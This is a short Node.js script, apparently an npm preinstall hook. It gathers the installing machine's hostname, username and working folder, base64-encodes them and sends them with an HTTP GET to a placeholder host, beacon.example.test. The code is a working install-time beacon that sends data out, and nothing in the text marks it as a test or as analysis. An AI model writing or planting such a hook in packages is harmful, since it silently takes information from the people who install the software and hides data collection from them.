// Host, user and folder are sent home; runs: preinstall
const os = require("os");
const http = require("http");
const seen = { host: os.hostname(), user: os.userInfo().username, folder: process.cwd() };
const query = Buffer.from(JSON.stringify(seen)).toString("base64");
http.get("http://beacon.example.test/?q=" + query);
